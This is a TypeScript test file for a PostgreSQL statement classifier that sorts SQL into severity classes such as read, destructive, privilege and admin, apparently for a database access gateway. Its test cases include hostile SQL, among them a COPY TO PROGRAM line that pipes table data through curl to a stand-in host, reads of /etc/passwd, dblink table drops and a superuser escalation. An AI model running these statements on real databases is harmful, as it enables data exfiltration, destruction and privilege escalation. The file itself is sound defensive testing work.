import { beforeAll, describe, expect, it, vi } from 'vitest';
import {
  CLASS_SEVERITY,
  type Classification,
  SqlParseError,
  type StatementClass,
  classifierCacheStats,
  classifySql,
  classifySqlUncached,
  clearClassifierCache,
  configureClassifierCache,
  initClassifier,
  moreSevere,
} from '../../src/policy/sql/classify.js';
import { estimateNesting } from '../../src/policy/sql/guard.js';

beforeAll(async () => {
  await initClassifier();
});

interface Case {
  readonly sql: string;
  readonly class: StatementClass;
  /** A substring of one of the reasons. */
  readonly reason?: string;
  readonly tables?: readonly string[];
  /** Per statement, in order. */
  readonly classes?: readonly StatementClass[];
  readonly kinds?: readonly string[];
}

const CASES: readonly Case[] = [
  // ---- read
  { sql: 'select 1', class: 'read', kinds: ['SelectStmt'] },
  { sql: 'SELECT a, b FROM s.t WHERE a = 1 ORDER BY b LIMIT 10', class: 'read', tables: ['s.t'] },
  { sql: 'TABLE t', class: 'read', tables: ['t'] },
  { sql: 'VALUES (1, 2), (3, 4)', class: 'read' },
  { sql: "select lower('X'), now(), count(*) from t group by 1", class: 'read', tables: ['t'] },
  { sql: 'select * from a join b on a.id = b.id left join c using (id)', class: 'read', tables: ['a', 'b', 'c'] },
  { sql: 'select * from t where id in (select id from u where x > (select max(y) from v))', class: 'read', tables: ['t', 'u', 'v'] },
  { sql: "select currval('s')", class: 'read' },
  { sql: 'SeLeCt * FrOm T', class: 'read', tables: ['t'] },
  { sql: 'SELECT * FROM "My Schema"."Weird.Table"', class: 'read', tables: ['"My Schema"."Weird.Table"'] },
  { sql: 'select * from db.s.t', class: 'read', tables: ['db.s.t'] },
  { sql: 'with x as (select 1) select * from x', class: 'read', tables: [] },
  { sql: 'with t as (select 1) select * from t, (with u as (select 2) select * from u) x, u', class: 'read', tables: ['u'] },
  { sql: 'with a as (select * from b), b as (select 1) select * from a', class: 'read', tables: ['b'] },
  { sql: 'with recursive r(n) as (select 1 union all select n + 1 from r where n < 9) select * from r', class: 'read', tables: [] },
  { sql: 'select 1 union select 2 intersect select 3 except select 4', class: 'read' },
  { sql: 'EXPLAIN DELETE FROM t', class: 'read', reason: 'does not execute', tables: ['t'] },
  { sql: 'explain select pg_terminate_backend(1)', class: 'read' },
  { sql: 'explain (analyze false) delete from t', class: 'read' },
  { sql: 'explain (analyze off, verbose) update t set a = 1', class: 'read' },
  { sql: 'explain (analyze 0) delete from t', class: 'read' },
  { sql: 'FETCH 10 FROM c', class: 'read', kinds: ['FetchStmt'] },
  { sql: 'MOVE NEXT IN c', class: 'read' },
  { sql: 'DECLARE c CURSOR WITH HOLD FOR SELECT * FROM t', class: 'read', tables: ['t'] },
  { sql: 'COPY t TO STDOUT', class: 'read', tables: ['t'] },
  { sql: "COPY (select * from t where a > 1) TO STDOUT WITH (FORMAT csv)", class: 'read', tables: ['t'] },
  { sql: 'select "drop table x" from t', class: 'read' },
  { sql: "select '; drop table x'", class: 'read', classes: ['read'] },
  { sql: 'select $$; drop table x$$', class: 'read', classes: ['read'] },
  { sql: 'select "PG_TERMINATE_BACKEND"(1)', class: 'read' },
  { sql: "select pg_sleep(0.1), pg_backend_pid(), current_setting('role')", class: 'read' },
  { sql: "select xmlelement(name a, (select pg_catalog.lower('x')))", class: 'read' },

  // ---- comments
  { sql: '-- drop table x', class: 'read', classes: [] },
  { sql: '/* drop table x */', class: 'read', classes: [] },
  { sql: '/* drop table x */ select 1', class: 'read', classes: ['read'] },
  { sql: 'select 1 -- ; drop table x', class: 'read', classes: ['read'] },
  { sql: 'select 1 /* ; drop /* nested */ table x */', class: 'read', classes: ['read'] },
  { sql: 'select * from t where a = 1; -- drop table t', class: 'read', classes: ['read'] },
  { sql: '', class: 'read', classes: [] },
  { sql: ' ;; ; ', class: 'read', classes: [] },

  // ---- write
  { sql: 'insert into t (a) values (1)', class: 'write', reason: 'INSERT INTO t', tables: ['t'] },
  { sql: 'INSERT INTO s.t SELECT * FROM u', class: 'write', tables: ['s.t', 'u'] },
  { sql: 'insert into t values (1) on conflict (id) do update set a = excluded.a', class: 'write' },
  { sql: 'UPDATE t SET a = 1 WHERE id = 2', class: 'write', reason: 'UPDATE t' },
  { sql: 'update t set a = 1 where current of c', class: 'write' },
  { sql: 'DELETE FROM t WHERE id = 1', class: 'write', kinds: ['DeleteStmt'] },
  { sql: 'delete from t using u where t.id = u.id', class: 'write', tables: ['t', 'u'] },
  { sql: 'merge into t using s on t.id = s.id when matched then update set a = s.a when not matched then insert values (s.id)', class: 'write', tables: ['t', 's'] },
  { sql: 'COPY t FROM STDIN', class: 'write', reason: 'COPY t FROM' },
  { sql: 'copy t (a, b) from stdin with (format csv) where a > 0', class: 'write' },
  { sql: 'WITH d AS (DELETE FROM t WHERE x RETURNING *) SELECT * FROM d', class: 'write', reason: 'data-modifying CTE', tables: ['t'] },
  { sql: 'with i as (insert into log values (1) returning id) select * from i', class: 'write', reason: 'data-modifying CTE: INSERT' },
  { sql: "select nextval('s')", class: 'write', reason: 'calls nextval' },
  { sql: "select setval('s', 42)", class: 'write' },
  { sql: 'select lo_create(0)', class: 'write', reason: 'large objects' },
  { sql: 'select pg_advisory_lock(1)', class: 'write', reason: 'advisory' },
  { sql: 'select pg_try_advisory_xact_lock(1)', class: 'write' },
  { sql: 'select * from t for update', class: 'write', reason: 'FOR UPDATE' },
  { sql: 'select * from t for share skip locked', class: 'write', reason: 'FOR SHARE' },
  { sql: 'lock table t in access exclusive mode', class: 'write', reason: 'LOCK TABLE' },
  { sql: "select * from t where id = (select nextval('s'))", class: 'write' },

  // ---- ddl
  { sql: 'SELECT * INTO newtab FROM t', class: 'ddl', reason: 'INTO creates table newtab', tables: ['newtab', 't'] },
  { sql: 'create table t (id int primary key, a text default now())', class: 'ddl', reason: 'CREATE TABLE', tables: ['t'] },
  { sql: 'create table t2 as select * from u', class: 'ddl', reason: 'CREATE TABLE AS' },
  { sql: 'CREATE INDEX CONCURRENTLY i ON s.t (lower(a))', class: 'ddl', tables: ['s.t'] },
  { sql: 'alter table t add column b int', class: 'ddl', kinds: ['AlterTableStmt'] },
  { sql: 'alter table t rename to u', class: 'ddl' },
  { sql: 'alter table s.t set schema s2', class: 'ddl' },
  { sql: "comment on table t is 'drop table x'", class: 'ddl', reason: 'COMMENT ON' },
  { sql: 'create view v as select * from t', class: 'ddl', tables: ['v', 't'] },
  { sql: 'create materialized view mv as select 1', class: 'ddl' },
  { sql: 'refresh materialized view concurrently mv', class: 'ddl' },
  { sql: 'create sequence s', class: 'ddl' },
  { sql: "create type mood as enum ('sad', 'ok')", class: 'ddl' },
  { sql: 'create schema s', class: 'ddl' },
  { sql: 'create trigger tr before insert on t for each row execute function f()', class: 'ddl' },
  { sql: 'create rule r as on insert to t do also delete from u', class: 'ddl', reason: 'rule: DELETE without WHERE' },
  { sql: 'CREATE FUNCTION f() RETURNS int AS $$ BEGIN RETURN (select count(*) from u); END $$ LANGUAGE plpgsql', class: 'ddl', reason: 'does not run now', tables: ['u'] },
  { sql: "create function f() returns void language sql as 'delete from t'", class: 'ddl', reason: 'function body: DELETE without WHERE' },
  { sql: 'create function f() returns void language sql begin atomic delete from t; end', class: 'ddl' },
  { sql: 'create procedure p() language plpgsql as $$ begin insert into t values (1); commit; end $$', class: 'ddl', reason: 'CREATE PROCEDURE' },
  { sql: 'vacuum', class: 'ddl' },
  { sql: 'vacuum full t', class: 'ddl', reason: 'VACUUM FULL' },
  { sql: 'analyze t', class: 'ddl' },
  { sql: 'cluster t using i', class: 'ddl' },
  { sql: 'reindex table t', class: 'ddl' },

  // ---- destructive
  { sql: 'DELETE FROM t', class: 'destructive', reason: 'DELETE without WHERE' },
  { sql: 'UPDATE t SET a = 1', class: 'destructive', reason: 'UPDATE without WHERE' },
  { sql: 'with u as (update t set a = 1) select 1', class: 'destructive', reason: 'data-modifying CTE: UPDATE without WHERE' },
  { sql: 'with d as (delete from t returning *) insert into archive select * from d', class: 'destructive', tables: ['t', 'archive'] },
  { sql: 'TRUNCATE a, b.c', class: 'destructive', reason: 'TRUNCATE', tables: ['a', 'b.c'] },
  { sql: 'DROP TABLE IF EXISTS a.b, "C" CASCADE', class: 'destructive', reason: 'DROP TABLE', tables: ['a.b', '"C"'] },
  { sql: 'drop index i', class: 'destructive' },
  { sql: 'drop view v', class: 'destructive' },
  { sql: 'drop function f(int)', class: 'destructive', reason: 'DROP FUNCTION' },
  { sql: 'drop schema s cascade', class: 'destructive' },
  { sql: 'alter table t drop column c', class: 'destructive', reason: 'DROP COLUMN' },
  { sql: 'EXPLAIN ANALYZE DELETE FROM t', class: 'destructive', reason: 'EXPLAIN ANALYZE' },
  { sql: 'explain (analyze, format json) update t set a = 1', class: 'destructive' },
  { sql: 'copy (delete from t returning *) to stdout', class: 'destructive' },
  { sql: "select query_to_xml('delete from t', true, true, '')", class: 'destructive', reason: 'query_to_xml runs' },
  { sql: 'DO $$ BEGIN DELETE FROM t; END $$', class: 'destructive', reason: 'DO block: DELETE without WHERE' },
  { sql: "do $$ begin execute 'drop table x'; end $$", class: 'destructive', reason: 'EXECUTE: DROP TABLE' },

  // ---- procedural
  { sql: "DO $$ BEGIN RAISE NOTICE 'hi'; END $$", class: 'procedural', reason: 'DO block' },
  { sql: 'do $$ begin update t set a = 1 where id = 1; end $$', class: 'procedural' },
  { sql: "do $$ declare q text := 'x'; begin execute q; end $$", class: 'procedural', reason: 'dynamic SQL' },
  { sql: 'call p()', class: 'procedural', reason: 'CALL p' },
  { sql: 'CALL s.p(1, 2)', class: 'procedural' },
  { sql: 'execute q', class: 'procedural', reason: 'not in this query' },
  { sql: 'execute q(1, 2)', class: 'procedural' },
  { sql: "select query_to_xml($1, true, true, '')", class: 'procedural' },

  // ---- prepared statements: PREPARE as what it prepares, EXECUTE as what was prepared
  { sql: 'PREPARE p AS DELETE FROM t; EXECUTE p', class: 'destructive', classes: ['destructive', 'destructive'], kinds: ['PrepareStmt', 'ExecuteStmt'] },
  { sql: 'prepare p(int) as select * from t where id = $1; execute p(1)', class: 'read', classes: ['read', 'read'] },
  { sql: 'prepare p as select 1; deallocate p; execute p', class: 'procedural', classes: ['read', 'session', 'procedural'] },

  // ---- transaction
  { sql: 'BEGIN', class: 'transaction', kinds: ['TransactionStmt'] },
  { sql: 'start transaction isolation level serializable read only', class: 'transaction' },
  { sql: 'commit', class: 'transaction' },
  { sql: 'ROLLBACK', class: 'transaction' },
  { sql: 'savepoint a', class: 'transaction' },
  { sql: 'release savepoint a', class: 'transaction' },
  { sql: 'rollback to savepoint a', class: 'transaction' },
  { sql: "prepare transaction 'x'", class: 'transaction', reason: 'PREPARE TRANSACTION' },
  { sql: "commit prepared 'x'", class: 'transaction' },
  { sql: "rollback prepared 'x'", class: 'transaction' },
  { sql: 'set transaction isolation level repeatable read', class: 'transaction' },
  { sql: 'set constraints all deferred', class: 'transaction' },
  { sql: 'begin; commit', class: 'transaction', classes: ['transaction', 'transaction'] },

  // ---- session
  { sql: 'SET search_path = x', class: 'session' },
  { sql: 'set statement_timeout to 0', class: 'session' },
  { sql: "set time zone 'UTC'", class: 'session' },
  { sql: 'set session characteristics as transaction read only', class: 'session' },
  { sql: 'reset search_path', class: 'session' },
  { sql: 'reset all', class: 'session' },
  { sql: 'show search_path', class: 'session' },
  { sql: 'show all', class: 'session' },
  { sql: 'listen ch', class: 'session' },
  { sql: "notify ch, 'x'", class: 'session' },
  { sql: 'unlisten *', class: 'session' },
  { sql: 'discard plans', class: 'session' },
  { sql: 'discard temp', class: 'session' },
  { sql: 'deallocate all', class: 'session' },
  { sql: 'close c', class: 'session' },
  { sql: "select set_config('search_path', 'x', false)", class: 'session' },
  { sql: "select pg_notify('ch', 'x')", class: 'session' },
  { sql: 'set standard_conforming_strings = on', class: 'session' },
  { sql: 'set standard_conforming_strings to default', class: 'session' },
  { sql: "set client_encoding = 'UTF8'", class: 'session' },

  // ---- privilege
  { sql: 'SET ROLE admin', class: 'privilege', reason: 'SET ROLE' },
  { sql: 'set local role admin', class: 'privilege' },
  { sql: 'set "Role" = admin', class: 'privilege' },
  { sql: 'RESET ROLE', class: 'privilege' },
  { sql: 'set session authorization bob', class: 'privilege' },
  { sql: 'reset session authorization', class: 'privilege' },
  { sql: 'discard all', class: 'privilege', reason: 'DISCARD ALL' },
  { sql: "select set_config('role', 'admin', false)", class: 'privilege', reason: "set_config('role'" },
  { sql: "select pg_catalog.set_config('ROLE', 'admin', true)", class: 'privilege' },
  { sql: 'GRANT SELECT ON t TO bob', class: 'privilege', tables: ['t'] },
  { sql: 'grant all on all tables in schema public to bob', class: 'privilege' },
  { sql: 'REVOKE ALL ON t FROM PUBLIC', class: 'privilege', reason: 'REVOKE' },
  { sql: 'grant admin to bob', class: 'privilege', reason: 'role membership' },
  { sql: "CREATE ROLE bob LOGIN PASSWORD 'x'", class: 'privilege' },
  { sql: 'create user u', class: 'privilege', reason: 'CREATE USER' },
  { sql: 'create group g', class: 'privilege' },
  { sql: 'alter role bob superuser', class: 'privilege' },
  { sql: 'alter user bob set search_path = x', class: 'privilege' },
  { sql: 'drop role bob', class: 'privilege' },
  { sql: 'drop user if exists bob', class: 'privilege' },
  { sql: 'alter default privileges in schema s grant select on tables to bob', class: 'privilege' },
  { sql: 'reassign owned by bob to alice', class: 'privilege' },
  { sql: 'drop owned by bob', class: 'privilege' },
  { sql: 'alter table t owner to bob', class: 'privilege', reason: 'OWNER TO' },
  { sql: 'alter function f() owner to bob', class: 'privilege' },
  { sql: 'alter table t disable row level security', class: 'privilege' },
  { sql: 'create policy p on t using (owner = current_user)', class: 'privilege' },
  { sql: 'drop policy p on t', class: 'privilege' },
  { sql: "create function f() returns int language sql security definer as 'select 1'", class: 'privilege', reason: 'SECURITY DEFINER' },
  { sql: 'alter function f() security definer', class: 'privilege' },
  { sql: 'create schema s create table t (a int) grant select on t to x', class: 'privilege', reason: 'GRANT' },

  // ---- admin
  { sql: 'select pg_terminate_backend(123)', class: 'admin', reason: 'calls pg_terminate_backend' },
  { sql: 'select pg_catalog.pg_terminate_backend(pid) from pg_stat_activity', class: 'admin', tables: ['pg_stat_activity'] },
  { sql: 'SELECT PG_TERMINATE_BACKEND(1)', class: 'admin' },
  { sql: 'select "pg_terminate_backend"(1)', class: 'admin' },
  { sql: 'select pg_cancel_backend(1)', class: 'admin' },
  { sql: "select * from t where id = (select pg_read_file('/etc/passwd'))", class: 'admin', reason: 'pg_read_file', tables: ['t'] },
  { sql: "select * from t where exists (select 1 where pg_read_binary_file('x') is not null)", class: 'admin' },
  { sql: "select pg_ls_dir('.')", class: 'admin' },
  { sql: "select * from pg_stat_file('postgresql.conf')", class: 'admin' },
  { sql: 'select pg_reload_conf()', class: 'admin' },
  { sql: 'select pg_rotate_logfile()', class: 'admin' },
  { sql: "select lo_import('/etc/passwd')", class: 'admin', reason: 'lo_import' },
  { sql: "select lo_export(1, '/tmp/x')", class: 'admin' },
  { sql: "select pg_file_write('x', 'y', false)", class: 'admin' },
  { sql: "select dblink_exec('host=x', 'drop table t')", class: 'admin', reason: 'dblink_exec' },
  { sql: "select * from dblink('host=x', 'select 1') as r(a int)", class: 'admin' },
  { sql: "select ext.dblink_connect('c', 'host=x')", class: 'admin' },
  { sql: 'insert into t select pg_terminate_backend(pid) from pg_stat_activity', class: 'admin' },
  { sql: "insert into t values (1, pg_read_file('x'))", class: 'admin' },
  { sql: 'update t set a = 1 where id = 2 returning pg_cancel_backend(1)', class: 'admin' },
  { sql: 'select 1 order by pg_terminate_backend(1)', class: 'admin' },
  { sql: 'with x as (select pg_terminate_backend(1)) select 1', class: 'admin' },
  { sql: 'call p(pg_terminate_backend(1))', class: 'admin' },
  { sql: "execute q(pg_read_file('x'))", class: 'admin' },
  { sql: 'explain analyze select pg_terminate_backend(1)', class: 'admin' },
  { sql: 'DECLARE c CURSOR FOR SELECT pg_terminate_backend(1)', class: 'admin' },
  { sql: 'do $$ begin perform pg_terminate_backend(1); end $$', class: 'admin' },
  { sql: 'do $$ declare x int; begin x := pg_cancel_backend(1); end $$', class: 'admin' },
  { sql: 'do language plpython3u $$ import os $$', class: 'admin', reason: 'untrusted language' },
  { sql: "create view v as select pg_read_file('x')", class: 'admin', reason: 'view: calls pg_read_file' },
  { sql: 'create table t (a int default pg_terminate_backend(1))', class: 'admin', reason: 'stored expression' },
  { sql: 'create function f(a int default pg_cancel_backend(1)) returns int language sql as $$select 1$$', class: 'admin' },
  { sql: "create function f() returns void language sql as 'select pg_cancel_backend(1)'", class: 'admin' },
  { sql: 'create function f() returns void language plpgsql as $$ begin perform pg_terminate_backend(1); end $$', class: 'admin' },
  { sql: "create function f() returns int language c as 'lib', 'sym'", class: 'admin' },
  { sql: "COPY t TO PROGRAM 'curl -d @- http://evil'", class: 'admin', reason: 'PROGRAM' },
  { sql: "copy t from program 'id'", class: 'admin' },
  { sql: "COPY t FROM '/etc/passwd'", class: 'admin', reason: '/etc/passwd' },
  { sql: "copy t to '/tmp/x'", class: 'admin' },
  { sql: "ALTER SYSTEM SET max_connections = 10", class: 'admin', reason: 'ALTER SYSTEM' },
  { sql: 'alter system reset all', class: 'admin' },
  { sql: "LOAD 'auto_explain'", class: 'admin' },
  { sql: 'CREATE EXTENSION dblink', class: 'admin', reason: 'CREATE EXTENSION' },
  { sql: 'drop extension dblink', class: 'admin' },
  { sql: 'CHECKPOINT', class: 'admin' },
  { sql: 'create database d', class: 'admin' },
  { sql: 'drop database d', class: 'admin', reason: 'DROP DATABASE' },
  { sql: 'alter database d set work_mem = 1', class: 'admin' },
  { sql: "create tablespace ts location '/x'", class: 'admin' },
  { sql: 'create server s foreign data wrapper postgres_fdw', class: 'admin' },
  { sql: 'create foreign data wrapper f', class: 'admin' },
  { sql: "create user mapping for bob server s options (user 'x', password 'y')", class: 'admin' },
  { sql: "create subscription s connection 'host=x' publication p", class: 'admin' },
  { sql: 'create publication p for all tables', class: 'admin' },
  { sql: 'create event trigger e on ddl_command_start execute function f()', class: 'admin' },
  { sql: 'set session_replication_role = replica', class: 'admin' },
  { sql: "set log_statement = 'none'", class: 'admin' },
  { sql: "select set_config('session_replication_role', 'replica', false)", class: 'admin' },
  { sql: 'update pg_catalog.pg_authid set rolsuper = true', class: 'admin', reason: 'system catalog' },
  { sql: "select set_config($1, 'x', false)", class: 'admin', reason: 'not a literal' },
  { sql: "update pg_settings set setting = 'admin' where name = 'role'", class: 'admin', reason: 'pg_settings' },
  // The gateway parses with standard_conforming_strings on, and reads UTF-8: changing either would
  // let the server read a literal differently from the gateway.
  { sql: 'set standard_conforming_strings = off', class: 'admin', reason: 'reads SQL text' },
  { sql: 'set standard_conforming_strings = 0', class: 'admin' },
  { sql: "select set_config('standard_conforming_strings', 'off', false)", class: 'admin' },
  { sql: "set names 'SJIS'", class: 'admin' },
  { sql: "create rule r as on select to t do instead select pg_terminate_backend(1)", class: 'admin' },

  // ---- several statements: the most severe decides
  { sql: 'select 1; delete from t where id = 1', class: 'write', classes: ['read', 'write'] },
  { sql: 'begin; delete from t; commit', class: 'destructive', classes: ['transaction', 'destructive', 'transaction'] },
  { sql: 'select 1; select pg_terminate_backend(1); drop table t', class: 'admin', classes: ['read', 'admin', 'destructive'] },
  { sql: 'set search_path = x; set role admin', class: 'privilege', classes: ['session', 'privilege'] },
  { sql: "select 'ünïcödé 🎉'; delete from t", class: 'destructive', classes: ['read', 'destructive'] },
  { sql: 'do $$ begin null; end $$; drop table t', class: 'destructive', classes: ['procedural', 'destructive'] },
];

function check(c: Case, got: Classification): void {
  expect(got.class, `class of ${c.sql}`).toBe(c.class);
  if (c.reason !== undefined) {
    const reasons = got.statements.flatMap((s) => s.reasons);
    expect(reasons.some((r) => r.includes(c.reason as string)), `reasons ${JSON.stringify(reasons)} include "${c.reason}"`).toBe(true);
  }
  if (c.tables !== undefined) expect(got.statements.flatMap((s) => s.tables)).toEqual(c.tables);
  if (c.classes !== undefined) expect(got.statements.map((s) => s.class)).toEqual(c.classes);
  if (c.kinds !== undefined) expect(got.statements.map((s) => s.kind)).toEqual(c.kinds);
  // The query's class is the most severe of its statements'.
  expect(got.class).toBe(got.statements.reduce<StatementClass>((acc, s) => moreSevere(acc, s.class), 'read'));
}

describe('classifySql: statements', () => {
  it('has at least 100 table cases and covers every class', () => {
    expect(CASES.length).toBeGreaterThanOrEqual(100);
    expect(new Set(CASES.map((c) => c.class))).toEqual(new Set(CLASS_SEVERITY));
  });

  it.each(CASES)('$class: $sql', (c) => {
    check(c, classifySql(c.sql));
    // The uncached path agrees.
    check(c, classifySqlUncached(c.sql));
  });
});

describe('classifySql: statement text and metadata', () => {
  it('slices each statement out of the source text, multibyte characters included', () => {
    // A statement starts at its first token (comments before it are not part of it).
    const c = classifySql("select 'ünïcödé 🎉' ;\n  /* c */ delete from t where a = 'ß'  ;  select 3 -- end");
    expect(c.statements.map((s) => s.text)).toEqual(["select 'ünïcödé 🎉'", "delete from t where a = 'ß'", 'select 3 -- end']);
  });

  it('says why', () => {
    const c = classifySql('delete from public.orders');
    expect(c.statements[0]).toMatchObject({ class: 'destructive', kind: 'DeleteStmt', text: 'delete from public.orders', tables: ['public.orders'] });
    expect(c.statements[0]?.reasons).toEqual(['DELETE without WHERE (DELETE FROM public.orders)']);
  });

  it('returns frozen results', () => {
    const c = classifySql('select 1; delete from t');
    expect(Object.isFrozen(c)).toBe(true);
    expect(Object.isFrozen(c.statements)).toBe(true);
    expect(Object.isFrozen(c.statements[1])).toBe(true);
    expect(Object.isFrozen(c.statements[1]?.reasons)).toBe(true);
    expect(Object.isFrozen(c.statements[1]?.tables)).toBe(true);
  });

  it('orders classes from most to least severe', () => {
    expect(CLASS_SEVERITY).toEqual(['admin', 'privilege', 'destructive', 'procedural', 'ddl', 'write', 'session', 'transaction', 'read']);
    expect(Object.isFrozen(CLASS_SEVERITY)).toBe(true);
    expect(moreSevere('read', 'admin')).toBe('admin');
    expect(moreSevere('destructive', 'procedural')).toBe('destructive');
  });
});

describe('classifySql: unparseable text', () => {
  const BAD = ['SELEC 1', "select 'unterminated", '$$', 'select (1', 'delete t', 'select * from', 'drop', '\\copy t to x', 'select 1 +', "DO $$ BEGIN $$ LANGUAGE", 'create table (a int)', 'select "unterminated'];

  it.each(BAD)('refuses %s', (sql) => {
    expect(() => classifySql(sql)).toThrow(SqlParseError);
  });

  it('carries a stable code, the parser message and the position', () => {
    let err: unknown;
    try {
      classifySql('SELEC 1');
    } catch (e) {
      err = e;
    }
    expect(err).toBeInstanceOf(SqlParseError);
    expect(err).toBeInstanceOf(Error);
    const e = err as SqlParseError;
    expect(e.code).toBe('HOOP_SQL_UNPARSEABLE');
    expect(e.name).toBe('SqlParseError');
    expect(e.parserMessage).toBe('syntax error at or near "SELEC"');
    expect(e.position).toBe(1);
    expect(e.message).toBe('syntax error at or near "SELEC" at character 1');
  });

  it('counts the position in characters, not bytes', () => {
    try {
      classifySql("select 'é', 'unterminated");
      expect.unreachable();
    } catch (e) {
      expect((e as SqlParseError).position).toBe(12);
    }
  });

  it('refuses a NUL character (the parser would stop reading there)', () => {
    let err: unknown;
    try {
      classifySql('select 1;\u0000 drop table t');
    } catch (e) {
      err = e;
    }
    expect(err).toBeInstanceOf(SqlParseError);
    expect((err as SqlParseError).position).toBe(10);
  });

  it('refuses the whole text when one statement does not parse', () => {
    expect(() => classifySql('select 1; SELEC 2; drop table t')).toThrow(SqlParseError);
  });
});

describe('classifySql: cache', () => {
  it('returns the same object for the same text, and counts hits', () => {
    clearClassifierCache();
    const a = classifySql('select * from cached_table where id = 1');
    const b = classifySql('select * from cached_table where id = 1');
    expect(b).toBe(a);
    const s = classifierCacheStats();
    expect(s.hits).toBe(1);
    expect(s.misses).toBe(1);
    expect(s.size).toBe(1);
    // Different text (even whitespace) is a different entry.
    expect(classifySql('select * from cached_table where id = 1 ')).not.toBe(a);
    expect(classifySqlUncached('select * from cached_table where id = 1')).not.toBe(a);
  });

  it('is bounded: the least recently used entries go first', () => {
    clearClassifierCache();
    configureClassifierCache({ maxEntries: 3 });
    try {
      const first = classifySql('select 1');
      classifySql('select 2');
      classifySql('select 3');
      expect(classifySql('select 1')).toBe(first); // refreshed: now the newest
      classifySql('select 4'); // evicts "select 2"
      const s = classifierCacheStats();
      expect(s.size).toBe(3);
      expect(s.evictions).toBe(1);
      expect(classifySql('select 1')).toBe(first);
      const hits = classifierCacheStats().hits;
      classifySql('select 2');
      expect(classifierCacheStats().hits).toBe(hits); // a miss
    } finally {
      configureClassifierCache({ maxEntries: 10_000 });
      clearClassifierCache();
    }
  });

  it('is bounded by the size of the text it keeps', () => {
    clearClassifierCache();
    configureClassifierCache({ maxChars: 4096 });
    try {
      const big = `select '${'x'.repeat(2000)}'`;
      classifySql(big);
      expect(classifierCacheStats().size).toBe(0); // heavier than a quarter of the budget
      for (let i = 0; i < 50; i++) classifySql(`select ${i}, '${'y'.repeat(100)}'`);
      expect(classifierCacheStats().weight).toBeLessThanOrEqual(4096);
    } finally {
      configureClassifierCache({ maxChars: 16 * 1024 * 1024 });
      clearClassifierCache();
    }
  });
});

describe('classifySql: robustness', () => {
  it('classifies or refuses 1000 random statements without crashing', () => {
    // Deterministic PRNG (mulberry32) so a failure can be replayed.
    let seed = 0x5eed1234;
    const rand = (): number => {
      seed = (seed + 0x6d2b79f5) | 0;
      let t = seed;
      t = Math.imul(t ^ (t >>> 15), t | 1);
      t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
      return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
    };
    const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rand() * xs.length)] as T;
    const WORDS = [
      'select', 'from', 'where', 'delete', 'update', 'set', 'insert', 'into', 'values', 'drop', 'table', 'with', 'as', 'union', 'all', 'create', 'function',
      'do', '$$', '$x$', 'begin', 'end', 'copy', 'to', 'program', 'stdin', 'grant', 'role', 'explain', 'analyze', 'prepare', 'execute', 'call', 'returning',
      't', 'u', '"Q"', 'pg_terminate_backend', 'pg_read_file', 'nextval', 'set_config', 'dblink', '(', ')', ',', ';', '*', '=', '+', '::', '1', "'s'",
      "E'\\''", '--', '/*', '*/', '\n', 'é', '🎉', '\u0000', '\\', '[', ']', 'and', 'or', 'not', 'null', 'case', 'when', 'then', 'else', 'lateral',
    ];
    const seeds = CASES.map((c) => c.sql).filter((s) => s.length > 0);
    let classified = 0;
    let refused = 0;
    for (let i = 0; i < 1000; i++) {
      let sql: string;
      const r = rand();
      if (r < 0.4) {
        sql = Array.from({ length: 1 + Math.floor(rand() * 20) }, () => pick(WORDS)).join(rand() < 0.5 ? ' ' : '');
      } else if (r < 0.8) {
        // A real statement, cut or spliced.
        const s = pick(seeds);
        const at = Math.floor(rand() * s.length);
        sql = rand() < 0.5 ? s.slice(0, at) : s.slice(0, at) + pick(WORDS) + s.slice(at);
      } else {
        sql = Array.from({ length: Math.floor(rand() * 40) }, () => String.fromCharCode(Math.floor(rand() * 0x3000))).join('');
      }
      try {
        const c = classifySql(sql);
        expect(CLASS_SEVERITY).toContain(c.class);
        classified++;
      } catch (err) {
        if (!(err instanceof SqlParseError)) throw new Error(`unexpected ${String(err)} for ${JSON.stringify(sql)}`);
        refused++;
      }
    }
    expect(classified + refused).toBe(1000);
    expect(classified).toBeGreaterThan(50);
    expect(refused).toBeGreaterThan(50);
  });

  it('parses or cleanly refuses 1 MB of select 1 union all …, and keeps working', () => {
    const sql = `select 1${' union all select 1'.repeat(Math.ceil(1_000_000 / 18))}`;
    expect(sql.length).toBeGreaterThan(1_000_000);
    const before = classifierCacheStats();
    let outcome: string;
    try {
      outcome = classifySql(sql).class;
    } catch (err) {
      expect(err).toBeInstanceOf(SqlParseError);
      outcome = 'refused';
    }
    expect(['read', 'refused']).toContain(outcome);
    const after = classifierCacheStats();
    // Refused by the guard before it reached the parser: no stack overflow, no leaked parse.
    expect(after.stackOverflows).toBe(before.stackOverflows);
    expect(classifySql('select 1').class).toBe('read');
  });

  it('refuses deeply nested expressions before they reach the parser', () => {
    const deep = [
      `select 1${'+1'.repeat(20_000)}`,
      `select ${'(select '.repeat(3_000)}1${')'.repeat(3_000)}`,
      `select ${'f('.repeat(5_000)}1${')'.repeat(5_000)}`,
      `select 1, 2${' union all select 1, 2'.repeat(20_000)}`,
      `select 1${'::int'.repeat(12_000)}`,
    ];
    const before = classifierCacheStats();
    for (const sql of deep) expect(() => classifySql(sql)).toThrow(/nested too deeply/);
    const after = classifierCacheStats();
    expect(after.guardRefusals - before.guardRefusals).toBe(deep.length);
    expect(after.stackOverflows).toBe(before.stackOverflows);
  });

  it('still accepts large flat statements (bulk VALUES, long IN lists, long OR chains, many UNION arms)', () => {
    const values = `insert into t values ${Array.from({ length: 20_000 }, (_, i) => `(${i}, -${i}, 'x''y', E'a\\'b', $$q$$)`).join(',')}`;
    expect(classifySql(values).class).toBe('write');
    const inList = `select * from t where id in (${Array.from({ length: 50_000 }, (_, i) => i).join(',')})`;
    expect(classifySql(inList).class).toBe('read');
    const ors = `select * from t where ${Array.from({ length: 5_000 }, (_, i) => `(a = ${i} and b = ${i})`).join(' or ')}`;
    expect(classifySql(ors).class).toBe('read');
    const unions = Array.from({ length: 500 }, (_, i) => `select a, b from t${i} where x = ${i}`).join(' union all ');
    expect(classifySql(unions).statements[0]?.tables).toHaveLength(500);
    const stmts = Array.from({ length: 2_000 }, (_, i) => `update t set a = ${i} where id = ${i}`).join(';');
    expect(classifySql(stmts).statements).toHaveLength(2_000);
  });

  it('is not fooled by strings and comments when estimating nesting', () => {
    expect(estimateNesting(`select '${'('.repeat(5000)}'`)).toBeLessThan(10);
    expect(estimateNesting(`select 1 -- ${'+1'.repeat(5000)}\n`)).toBeLessThan(10);
    expect(estimateNesting(`select $x$${'+1'.repeat(5000)}$x$`)).toBeLessThan(10);
